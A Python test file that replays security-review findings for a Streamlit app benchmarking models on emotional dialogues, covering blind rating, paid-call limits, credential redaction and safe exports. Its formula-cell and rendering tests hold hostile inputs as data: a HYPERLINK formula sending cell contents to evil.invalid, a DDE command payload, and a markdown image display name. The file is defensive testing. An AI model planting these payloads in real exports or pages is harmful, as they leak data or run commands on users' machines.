"""Each security finding of a review, replayed: blindness, paid calls, fail-closed
accounts, formula cells, credentials in URLs, file modes, literal rendering, bad files.
(The lock-out and session findings are in test_users.py and the browser test.)"""

from __future__ import annotations

import io
import shutil
import stat
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from fixtures.fake_openai import FakeOpenAI
from koed_core.annotation.taxonomy import (
    AnnotationError,
    load_taxonomy,
)
from koed_core.cli import main
from koed_core.db import Runs, Store
from koed_core.dialogues.dataset import DatasetError, load_dataset
from koed_core.dialogues.export import to_csv
from koed_core.models.backends import make_client
from koed_core.models.client import GenerationSettings
from koed_core.models.emotions import parse_reply
from koed_core.models.registry import ModelSpec
from koed_core.models.request import RunRequest
from koed_core.models.runs import run_benchmark
from koed_core.paths import SAMPLE_FILE
from koed_core.rating import accounts
from koed_core.rating.report import export_rows, rows_csv
from koed_core.rating.studies import StudyRules
from koed_core.results.paper_export import export_bundle

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "data" / "koed-0.1.0.db"
LISTENER_RUN = "9d350d301481ea01a307"
COOKIE_KEY = "k" * 40


def _as(username: str | None, page: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    if username:
        at.session_state["authentication_status"] = True
        at.session_state["username"] = username
    at.run()
    return at.switch_page(page).run()


def _everything(at: AppTest) -> str:
    parts = [
        str(e.value)
        for kind in ("markdown", "text", "caption", "info", "error")
        for e in at.get(kind)
    ]
    parts += [df.value.to_csv() for df in at.dataframe]
    return "\n".join(parts)


# 1. Rating is blind --------------------------------------------------------------------


@pytest.mark.slow
def test_results_pages_reveal_nothing_of_an_open_study(site: Path) -> None:
    texts = set(
        Runs(Store(site))
        .response_texts(list(Runs(Store(site)).responses(LISTENER_RUN)["id"]))
        .values()
    )
    for who in (None, "mina"):
        agreement = _as(who, "app_pages/results/agreement.py")
        assert not agreement.exception
        assert not agreement.dataframe  # no table, no rationale, no comments
        assert "No published human ratings yet" in agreement.info[0].value
        demo = _as(who, "app_pages/results/demo.py")
        assert not demo.exception
        shown = _everything(demo)
        assert not any(t in shown for t in texts), (
            f"a {who or 'visitor'} saw a response under study"
        )
        assert not demo.get("toggle") or all(
            t.label != "Ask the models live (needs their servers or keys)" for t in demo.toggle
        )
        gap = _as(who, "app_pages/results/gap.py")
        assert not gap.exception
        assert "study 1" not in str([s.options for s in gap.selectbox])
        assert not [b for b in gap.get("download_button") if "paper" in b.label]
    admin = _as("boss", "app_pages/results/agreement.py")
    # the table, the judge's gap minus the people's (numbers), the alt-test (numbers and our
    # own readings) and the disagreements (texts)
    assert len(admin.dataframe) == 4
    assert "note" in _everything(admin)  # raters' comments, for the admin only


@pytest.mark.slow
def test_closing_a_study_publishes_numbers_but_never_words(site: Path) -> None:
    StudyRules(Store(site)).close(1)
    rater = _as("mina", "app_pages/results/agreement.py")
    # the agreement table, the judge's gap minus the people's and the alt-test: numbers and
    # our own readings, no rater's words
    assert not rater.exception and len(rater.dataframe) == 3
    assert "alice note" not in _everything(rater)
    assert StudyRules(Store(site)).next_item(1, "alice") is None  # no new items once closed


# 2. Paid models need an admin ----------------------------------------------------------


@pytest.mark.slow
def test_visitors_and_raters_cannot_spend_the_servers_key(
    site: Path, fake_registry: Path, fake_openai: FakeOpenAI
) -> None:
    for who in (None, "mina"):
        at = _as(who, "app_pages/models/chat.py")
        options = at.multiselect(key="chat.models").options
        assert options and not any("fake-listener" in o for o in options)  # offline only
        assert not [b for b in at.button if b.label == "Save for rating"]
        # the server-side check itself, as a crafted request would meet it
        probe = AppTest.from_function(_call_paid_model, kwargs={"url": fake_openai.base_url})
        if who:
            probe.session_state["authentication_status"] = True
            probe.session_state["username"] = who
        probe.run()
        assert not probe.exception
        assert "log in as an admin" in probe.error[0].value
        assert fake_openai.requests == [], f"a {who or 'visitor'} reached the paid model"
    admin = _as("boss", "app_pages/models/chat.py")
    admin.multiselect(key="chat.models").set_value(["fake-listener"]).run()
    admin.button(key="chat.ask").click().run()
    assert len(fake_openai.requests) == 2


def _call_paid_model(url: str) -> None:
    import streamlit as st

    from components.shared.model_choice import client_for
    from koed_core.models.client import ModelError
    from koed_core.models.registry import ModelSpec

    spec = ModelSpec(name="paid", backend="openai", model="m", base_url=url)
    try:
        client_for(spec).complete([{"role": "user", "content": "hi"}], GenerationSettings(), None)
    except ModelError as err:
        st.error(str(err))


@pytest.mark.slow
def test_each_account_has_an_hourly_allowance(
    site: Path, fake_registry: Path, fake_openai: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KOED_CALLS_PER_HOUR", "2")
    admin = _as("boss", "app_pages/models/chat.py")
    admin.multiselect(key="chat.models").set_value(["fake-listener"]).run()
    admin.button(key="chat.ask").click().run()  # two panes: the allowance is used up
    assert len(fake_openai.requests) == 2
    again = _as("boss", "app_pages/models/chat.py")
    again.multiselect(key="chat.models").set_value(["fake-listener"]).run()
    again.button(key="chat.ask").click().run()
    assert len(fake_openai.requests) == 2
    assert "model calls in the last hour" in _everything(again)


# 4. A configured accounts file that cannot be read closes the doors ----------------------


@pytest.mark.parametrize("content", [None, "", "something: else\n", "credentials: [\n"])
def test_broken_accounts_file_fails_closed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str | None
) -> None:
    path = tmp_path / "accounts.yaml"
    if content is not None:
        path.write_text(content)
    monkeypatch.setenv("KOED_USERS", str(path))
    monkeypatch.setenv("KOED_COOKIE_KEY", COOKIE_KEY)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not at.exception  # public pages still work
    for page in (
        "app_pages/models/runs.py",
        "app_pages/models/judge.py",
        "app_pages/rating/studies.py",
    ):
        with pytest.raises(ValueError, match="Could not find a navigation page"):
            at.switch_page(page)
        alone = AppTest.from_file(str(ROOT / page), default_timeout=60).run()
        assert not alone.exception and not alone.button
    login = at.switch_page("app_pages/account/login.py").run()
    assert "The accounts file cannot be used" in login.error[0].value


# 5. Spreadsheet formulas -----------------------------------------------------------------


@pytest.mark.slow
def test_no_csv_cell_starts_a_formula(site: Path, tmp_path: Path) -> None:
    store = Store(site)
    rules = StudyRules(store)
    attack = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")'
    store.db.execute("update ratings set comment = ? where username = 'bob'", [attack])
    store.db.conn.commit()
    frame = pd.read_csv(io.StringIO(rows_csv(export_rows(rules, 1, b"k"))))
    comments = frame["comment"].dropna().astype(str)
    assert (comments == "'" + attack).any()
    cells = [str(c) for c in frame.to_numpy().ravel()]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    dialogue = load_dataset(SAMPLE_FILE).dialogues[0]
    from dataclasses import replace

    crafted = replace(dialogue, situation_en="=cmd|' /C calc'!A0", situation_ko="-2+3")
    text = to_csv([crafted])
    assert text.startswith("\ufeff")  # Excel reads the Korean as Korean
    assert "'=cmd" in text and "'-2+3" in text
    export_bundle(store, tmp_path / "out", images=False)
    gaps = pd.read_csv(tmp_path / "out" / "gaps.csv")
    assert pd.api.types.is_numeric_dtype(gaps["gap"])  # numbers stay numbers


# 6 and 9. Credentials in URLs, file modes -----------------------------------------------


@pytest.mark.slow
def test_credentials_in_a_base_url_never_leave(tmp_path: Path, fake_openai: FakeOpenAI) -> None:
    host = fake_openai.base_url.split("//", 1)[1]
    url = f"http://user:hunter2@{host}?api-key=SECRETKEY"
    spec = ModelSpec(name="leaky", backend="openai", model="m", base_url=url)
    store = Store(tmp_path / "k.db")
    dataset = load_dataset(SAMPLE_FILE)
    report = run_benchmark(
        store,
        make_client(spec, "sk-test"),
        spec,
        dataset.dialogues[:1],
        dataset.sha256,
        RunRequest(spec.name, langs=("en",), protocol="direct", max_retries=0, timeout_s=2),
    )
    stored = (
        str(Runs(store).run_config(report.run_id)) + Runs(store).responses(report.run_id).to_csv()
    )
    assert "hunter2" not in stored and "SECRETKEY" not in stored and "sk-test" not in stored
    out = tmp_path / "out"
    export_bundle(store, out, images=False)
    for file in out.iterdir():
        body = file.read_bytes()
        assert b"hunter2" not in body and b"SECRETKEY" not in body, file.name
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file.name
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    from koed_core.results.paper_export import zip_bundle

    archive = zip_bundle(store, tmp_path / "zip")
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    with zipfile.ZipFile(archive) as bundle:
        assert not any(b"hunter2" in bundle.read(n) for n in bundle.namelist())


def test_a_0_1_0_url_with_credentials_is_redacted_on_upgrade(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "old.db"
    shutil.copy(FIXTURE, db)
    with sqlite3.connect(db) as conn:
        conn.execute(
            "update runs set config = json_set(config, '$.base_url', "
            "'http://u:pw@127.0.0.1:9/v1?api_key=XYZ') where id = ?",
            [LISTENER_RUN],
        )
    config, _ = Runs(Store(db)).run_config(LISTENER_RUN) or ({}, None)
    assert config["base_url"] == "http://***@127.0.0.1:9/v1?api_key=%2A%2A%2A"


# 10. Names and ids render literally ------------------------------------------------------


@pytest.mark.slow
def test_display_names_render_literally(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "accounts.yaml"
    accounts.add_user(
        path, "eve", "admin", "![x](http://evil.invalid/p.png) **Eve**", "eve-password"
    )
    monkeypatch.setenv("KOED_USERS", str(path))
    monkeypatch.setenv("KOED_COOKIE_KEY", COOKIE_KEY)
    at = _as("eve", "app_pages/account/login.py")
    shown = [c.value for c in at.sidebar.caption] + [s.value for s in at.success]
    rendered = [v for v in shown if "evil" in v]
    assert rendered and all("\\!\\[x\\]" in v and "\\*\\*Eve\\*\\*" in v for v in rendered)


# 11. Bad files are messages, not tracebacks ----------------------------------------------


@pytest.mark.slow
def test_bad_files_are_named_on_the_page(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    models = tmp_path / "models.toml"
    models.write_text("[models.x\nbackend = ")
    monkeypatch.setenv("KOED_MODELS", str(models))
    chat = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    chat.switch_page("app_pages/models/chat.py").run()
    assert not chat.exception and "not valid TOML" in chat.error[0].value.replace("\\", "")
    monkeypatch.delenv("KOED_MODELS")
    db = tmp_path / "bad.db"
    db.write_bytes(b"garbage" * 1000)
    monkeypatch.setenv("KOED_DB", str(db))
    for page in (
        "app_pages/results/gap.py",
        "app_pages/models/runs.py",
        "app_pages/results/demo.py",
    ):
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
        at.switch_page(page).run()
        assert not at.exception, page
        assert any("not a usable SQLite database" in e.value.replace("\\", "") for e in at.error)
    assert db.read_bytes() == b"garbage" * 1000
    garbage = tmp_path / "accounts.yaml"
    garbage.write_text(":\n  - [unclosed")
    monkeypatch.setenv("KOED_USERS", str(garbage))
    explorer = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    assert not explorer.exception and explorer.title[0].value == "Dialogue explorer"


# 12. The reply is stored as the model gave it -------------------------------------------


def test_reply_markup_is_kept() -> None:
    parsed = parse_reply("Emotion: sad\nResponse: **Oh no**, that hurts: truly.", "single")
    assert parsed.text == "**Oh no**, that hurts: truly."
    assert parse_reply("**Response:** Oh no.", "direct").text == "Oh no."


def test_visitors_see_the_data_files_name_not_where_it_lives(site: Path) -> None:
    visitor = _everything(_as(None, "app_pages/dialogues/explorer.py"))
    assert "File: koed_sample.json" in visitor and str(ROOT) not in visitor
    admin = _everything(_as("boss", "app_pages/dialogues/explorer.py"))
    assert f"File: {ROOT / 'data' / 'sample' / 'koed_sample.json'}" in admin


DEEP = 100_000


# Deep nesting is one sentence naming the file ----------------------------------------


def _deep_toml(path: Path) -> Path:
    path.write_text("name = " + "[" * DEEP + "]" * DEEP + "\n", encoding="utf-8")
    return path


def test_a_deeply_nested_taxonomy_is_one_sentence_naming_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from components.annotation.annotation_admin import _taxonomy_upload

    deep = _deep_toml(tmp_path / "deep.toml")
    with pytest.raises(AnnotationError, match="deep.toml: nested too deeply"):
        load_taxonomy(deep)

    class Upload:
        name = "deep.toml"

        def getvalue(self) -> bytes:
            return deep.read_bytes()

    with pytest.raises(AnnotationError, match="deep.toml: nested too deeply"):
        _taxonomy_upload(Upload())
    assert main(["annotations", "project", "--name", "x", "--taxonomy", str(deep)]) == 1
    err = capsys.readouterr().err
    assert "deep.toml: nested too deeply" in err and "RecursionError" not in err, err


def test_deeply_nested_claims_plans_and_json_are_one_sentence_naming_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")  # nothing may be called
    plan = tmp_path / "plan.toml"
    plan.write_text(
        'name = "small"\nmodels = ["openai:a"]\njudge = "gpt-4o"\nsubset = "full"\n'
        'protocols = ["single"]\n'
    )
    deep = _deep_toml(tmp_path / "claims.toml")
    code = main(["reproduce", str(plan), "--data", str(SAMPLE_FILE), "--claims", str(deep)])
    err = capsys.readouterr().err
    assert code == 1 and "claims.toml: nested too deeply" in err, err
    assert "RecursionError" not in err
    deep_plan = _deep_toml(tmp_path / "deep-plan.toml")
    assert main(["reproduce", str(deep_plan), "--data", str(SAMPLE_FILE), "--dry-run"]) == 1
    err = capsys.readouterr().err
    assert "deep-plan.toml: nested too deeply" in err and "RecursionError" not in err, err
    studio = tmp_path / "deep.json"
    studio.write_text("[" * DEEP + "]" * DEEP, encoding="utf-8")
    code = main(["annotations", "import", str(studio), "--format", "label-studio", "--name", "d"])
    err = capsys.readouterr().err
    assert code == 1 and "deep.json: nested too deeply" in err, err
    assert "RecursionError" not in err
    with pytest.raises(DatasetError, match="nested too deeply"):
        load_dataset(studio)
